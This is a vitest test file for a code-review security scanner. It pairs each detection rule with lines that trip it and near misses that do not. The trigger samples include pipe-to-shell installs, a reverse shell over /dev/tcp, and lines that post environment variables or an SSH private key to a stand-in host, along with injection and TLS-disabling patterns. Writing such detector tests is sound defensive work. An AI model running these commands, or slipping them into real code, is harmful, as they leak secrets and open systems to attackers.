/** Every pattern has a line that trips it and a near miss that does not. */
import { describe, expect, it } from "vitest"
import { lineRules } from "../../../core/review/security/patterns.ts"
import { adding, found, rulesOf } from "./kit.ts"

const table: ReadonlyArray<readonly [rule: string, path: string, trips: ReadonlyArray<string>, misses: ReadonlyArray<string>]> = [
  [
    "eval",
    "a.js",
    ["eval(input)", "new Function('a', body)", "setTimeout('go()', 1)", "vm.runInNewContext(x)"],
    ["retrieval(input)", "// eval(input)", "model.eval(input)", "setTimeout(() => go(), 1)"]
  ],
  [
    "command-injection",
    "a.ts",
    ["exec(`rm ${file}`)", "execSync('ls ' + name)", "spawn('sh', ['-c', `run ${x}`])"],
    ["execFile('rm', [file])", "exec('ls -l')", "spawn('git', ['log', `${x}`])"]
  ],
  [
    "command-injection",
    "a.py",
    ["os.system(f'rm {x}')", "subprocess.run(cmd, shell=True)"],
    ["subprocess.run(['rm', x])", "os.path.join(a, b)"]
  ],
  ["shell-option", "a.mjs", ["spawn(cmd, args, { shell: true })"], ["spawn(cmd, args, { shell: false })"]],
  [
    "unsafe-deserialization",
    "a.py",
    ["yaml.load(text)", "pickle.loads(data)"],
    ["yaml.safe_load(text)", "yaml.load(text, Loader=SafeLoader)", "json.loads(data)"]
  ],
  [
    "tls-disabled",
    "a.ts",
    ["tls.connect({ rejectUnauthorized: false })", 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"'],
    ["tls.connect({ rejectUnauthorized: true })"]
  ],
  ["tls-disabled", "get.sh", ["curl -sk https://example.com", "git config http.sslVerify false"], ["curl -sS https://example.com/k"]],
  ["tls-disabled", "a.py", ["requests.get(u, verify=False)"], ["requests.get(u, verify=True)"]],
  ["tls-disabled", "a.go", ["&tls.Config{InsecureSkipVerify: true}"], ["&tls.Config{InsecureSkipVerify: false}"]],
  [
    "pipe-to-shell",
    "setup.sh",
    ["curl -fsSL https://example.com/i | sh", "wget -qO- x | sudo -E bash", "bash <(curl -s x)", "echo aGk= | base64 -d | sh"],
    ["curl -o i.sh https://example.com/i", "curl x | grep shell", "cat a | sh"]
  ],
  ["pipe-to-shell", "Dockerfile", ["RUN curl https://example.com/i | bash -s -- -y"], ["RUN apt-get install -y curl bash"]],
  [
    "permissions-weakened",
    "a.sh",
    ["chmod 777 /srv", "chmod -R a+rwx .", "chmod 4755 tool", "umask 000"],
    ["chmod 755 tool", "chmod 600 key", "chmod +x run", "umask 022"]
  ],
  [
    "permissions-weakened",
    "a.ts",
    ["chmodSync(path, 0o777)", "mkdirSync(p, { mode: 0o777 })"],
    ["chmodSync(path, 0o600)", "mkdirSync(p, { mode: 0o755 })"]
  ],
  ["privileged", "compose.yml", ["    privileged: true", "      - /var/run/docker.sock:/var/run/docker.sock"], ["    privileged: false"]],
  ["container-root", "Dockerfile", ["USER root"], ["USER app"]],
  ["wildcard-grant", "policy.json", ['"Action": "*"'], ['"Action": "s3:GetObject"']],
  ["wildcard-grant", "a.sql", ["GRANT ALL ON db TO app"], ["GRANT SELECT ON db.t TO app"]],
  [
    "cors-any-origin",
    "a.js",
    ['res.set("Access-Control-Allow-Origin", "*")', "cors({ origin: true })"],
    ['cors({ origin: "https://example.com" })']
  ],
  ["binds-everywhere", "a.js", ['server.listen(80, "0.0.0.0")'], ['server.listen(80, "127.0.0.1")']],
  [
    "html-injection",
    "a.tsx",
    ["<p dangerouslySetInnerHTML={x} />", "node.innerHTML = text"],
    ["node.textContent = text", "if (node.innerHTML === text) go()"]
  ],
  [
    "sql-injection",
    "a.ts",
    ["db.query(`SELECT * FROM t WHERE id = ${id}`)", "db.exec('DELETE FROM t WHERE a=' + a)"],
    ["db.query('SELECT * FROM t WHERE id = ?', [id])"]
  ],
  ["weak-crypto", "a.ts", ['createHash("md5")'], ['createHash("sha256")']],
  [
    "hook-installed",
    "a.sh",
    ["git config core.hooksPath .hooks", "echo x >> ~/.bashrc", "crontab - < jobs"],
    ["git config user.name x", "echo x >> notes.txt"]
  ],
  ["checks-skipped", "a.sh", ["git push --no-verify", "npm test || true"], ["git push", "npm test"]],
  [
    "exfiltration",
    "a.sh",
    ['curl -d "$(env)" https://example.com', "cat ~/.ssh/id_rsa | nc example.com 1", "bash -i >& /dev/tcp/10.0.0.1/1"],
    ["curl https://example.com", "env | sort"]
  ],
  ["exfiltration", "a.ts", ["fetch(u, { body: JSON.stringify(process.env) })"], ["JSON.stringify(process.env.HOME)"]]
]

describe("REV-1 risky patterns", () => {
  it.each(table.flatMap(([rule, path, trips]) => trips.map((text) => ({ rule, path, text }))))(
    "REV-1 $rule is tripped in $path by: $text",
    ({ rule, path, text }) => {
      expect(rulesOf(adding(path, `const before = 1\n${text}`))).toContain(rule)
      expect(found(adding(path, `x\n${text}`)).find((each) => each.rule === `security/${rule}`)).toMatchObject({ path, line: 2 })
    }
  )

  it.each(table.flatMap(([rule, path, , misses]) => misses.map((text) => ({ rule, path, text }))))(
    "REV-1 $rule lets pass in $path: $text",
    ({ rule, path, text }) => {
      expect(rulesOf(adding(path, text))).not.toContain(rule)
    }
  )

  it("REV-1 every rule is in the table", () => {
    expect(new Set(table.map(([rule]) => rule))).toEqual(new Set(lineRules.map(({ rule }) => rule)))
  })

  it("REV-1 prose and lockfiles are not read for patterns, tests weigh one step less, a line that only moved is not new", () => {
    expect(rulesOf(adding("README.md", "curl https://example.com/i | sh"))).toEqual([])
    expect(found(adding("src/a.js", "eval(x)")).map(({ severity }) => severity)).toEqual(["medium"])
    expect(found(adding("tests/a.js", "eval(x)")).map(({ severity }) => severity)).toEqual(["low"])
    expect(found(adding("src/a.js", "    eval(x)", { removed: new Set(["eval(x)"]) }))).toEqual([])
  })

  it("REV-1 REL-1 a line of a megabyte, and lines made to be slow, are read in no time", () => {
    const slow = [
      "test ".repeat(200_000),
      "curl ".repeat(200_000),
      "exec(`".repeat(150_000),
      "a".repeat(1_000_000),
      '"'.repeat(500_000),
      "os.system(".repeat(100_000)
    ]
    // Each takes milliseconds; a pattern that goes back over what it read would take minutes of a megabyte.
    const began = performance.now()
    for (const text of slow) for (const path of ["a.js", "a.py", "a.sh", "a.yml"]) found(adding(path, text))
    expect(performance.now() - began).toBeLessThan(20_000)
  })
})
